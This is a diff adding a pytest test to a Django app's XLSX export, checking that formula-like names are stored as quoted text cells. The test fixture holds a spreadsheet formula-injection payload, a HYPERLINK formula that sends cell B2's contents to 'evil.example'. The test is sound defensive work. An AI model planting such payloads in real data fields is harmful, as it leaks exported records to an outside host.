@@ -5,7 +5,7 @@ from django.db import IntegrityError
 from django.urls import reverse
 from pytest_django.asserts import assertContains
 
-from core.tests.utils import xlsx_rows
+from core.tests.utils import xlsx_rows, xlsx_text_cells
 from mentorships.tests.factories import MentorshipFactory
 from people.models import PersonViewLog
 from people.tests.factories import PersonFactory
@@ -326,3 +326,15 @@ def test_export_query_count_does_not_grow_with_rows(
 
     assert len(xlsx_rows(response)) == n + 1
     assert PersonViewLog.objects.count() == n
+
+
+def test_export_writes_a_formula_like_name_as_text(client, coordinator, school):
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"ok")'
+    _entry(school, person__last_name=formula, person__first_name="-\x0b1")
+    client.force_login(coordinator)
+
+    response = client.get(reverse("reserve:export"))
+
+    for text in (formula, "-1"):
+        (cell,) = xlsx_text_cells(response, text)
+        assert (cell.data_type, cell.quotePrefix) == ("s", True)
